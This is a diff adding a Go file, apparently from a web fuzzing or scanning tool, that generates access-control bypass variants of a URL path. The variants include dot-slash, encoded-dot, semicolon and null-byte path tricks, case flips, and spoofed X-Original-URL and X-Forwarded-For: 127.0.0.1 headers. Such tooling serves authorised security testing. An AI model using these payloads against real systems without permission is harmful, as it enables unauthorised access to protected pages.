@@ -0,0 +1,100 @@
+package main
+
+import (
+	"strings"
+)
+
+// PositionBypass is the position of path normalization bypass variants
+const PositionBypass = "bypass"
+
+// BypassVariant is a path that might bypass access control
+type BypassVariant struct {
+	Name string
+	Path string
+	// Headers only work with raw output (-of raw or -of nuclei)
+	Headers []string
+}
+
+// BypassVariants gen known access control bypass variants of the last path segment
+// e.g: /admin -> /./admin, //admin, /admin/., /%2e/admin, /admin;/, /admin..;/
+func BypassVariants(rawPath string) []BypassVariant {
+	p := "/" + strings.Trim(rawPath, "/")
+	if p == "/" {
+		return nil
+	}
+	i := strings.LastIndex(p, "/")
+	dir, last := p[:i+1], p[i+1:]
+
+	// /a/admin -> /a%2fadmin, the leading slash of /admin is kept so the host doesn't change
+	encodedSlash := strings.TrimSuffix(dir, "/") + "%2f" + last
+	if dir == "/" {
+		encodedSlash = "/%2f" + last
+	}
+
+	variants := []BypassVariant{
+		{Name: "dot-slash", Path: dir + "./" + last},
+		{Name: "double-slash", Path: dir + "/" + last},
+		{Name: "leading-double-slash", Path: "/" + p},
+		{Name: "trailing-dot", Path: p + "/."},
+		{Name: "trailing-slash", Path: p + "/"},
+		{Name: "encoded-dot", Path: dir + "%2e/" + last},
+		{Name: "double-encoded-dot", Path: dir + "%252e/" + last},
+		{Name: "encoded-slash", Path: encodedSlash},
+		{Name: "semicolon-slash", Path: p + ";/"},
+		{Name: "dotdot-semicolon", Path: p + "..;/"},
+		{Name: "semicolon-prefix", Path: dir + ";/" + last},
+		{Name: "dot-semicolon-prefix", Path: dir + ".;/" + last},
+		{Name: "trailing-space", Path: p + "%20"},
+		{Name: "trailing-tab", Path: p + "%09"},
+		{Name: "trailing-null", Path: p + "%00"},
+		{Name: "trailing-wildcard", Path: p + "/*"},
+		{Name: "json-ext", Path: p + ".json"},
+	}
+
+	// case flips
+	if upper := dir + strings.ToUpper(last); upper != p {
+		variants = append(variants, BypassVariant{Name: "uppercase", Path: upper})
+	}
+	if len(last) > 0 {
+		if title := dir + strings.ToUpper(last[:1]) + last[1:]; title != p {
+			variants = append(variants, BypassVariant{Name: "capitalize", Path: title})
+		}
+	}
+
+	// header pairs, the request go to / and the real path is in the header
+	for _, h := range []string{"X-Original-URL", "X-Rewrite-URL", "X-Override-URL"} {
+		variants = append(variants, BypassVariant{Name: strings.ToLower(h), Path: "/", Headers: []string{h + ": " + p}})
+	}
+	for _, h := range []string{"X-Forwarded-For", "X-Real-IP", "X-Custom-IP-Authorization"} {
+		variants = append(variants, BypassVariant{Name: strings.ToLower(h), Path: p, Headers: []string{h + ": 127.0.0.1"}})
+	}
+	return dedupeVariants(variants)
+}
+
+// dedupeVariants remove variants with the same path and headers, e.g: double-slash and leading-double-slash of /admin
+func dedupeVariants(variants []BypassVariant) []BypassVariant {
+	var results []BypassVariant
+	seen := make(map[string]bool)
+	for _, v := range variants {
+		key := v.Path + "\n" + strings.Join(v.Headers, "\n")
+		if seen[key] {
+			continue
+		}
+		seen[key] = true
+		results = append(results, v)
+	}
+	return results
+}
+
+// BypassBuilder gen bypass variants of URL, the query is kept as it is
+func BypassBuilder(urlString string) []Injection {
+	var results []Injection
+	r := SplitRawURL(urlString)
+	for _, v := range BypassVariants(r.Path) {
+		clone := r
+		clone.Path = v.Path
+		clone.Fragment = ""
+		results = append(results, Injection{Position: PositionBypass, Name: v.Name, Result: clone.String(), Headers: v.Headers})
+	}
+	return results
+}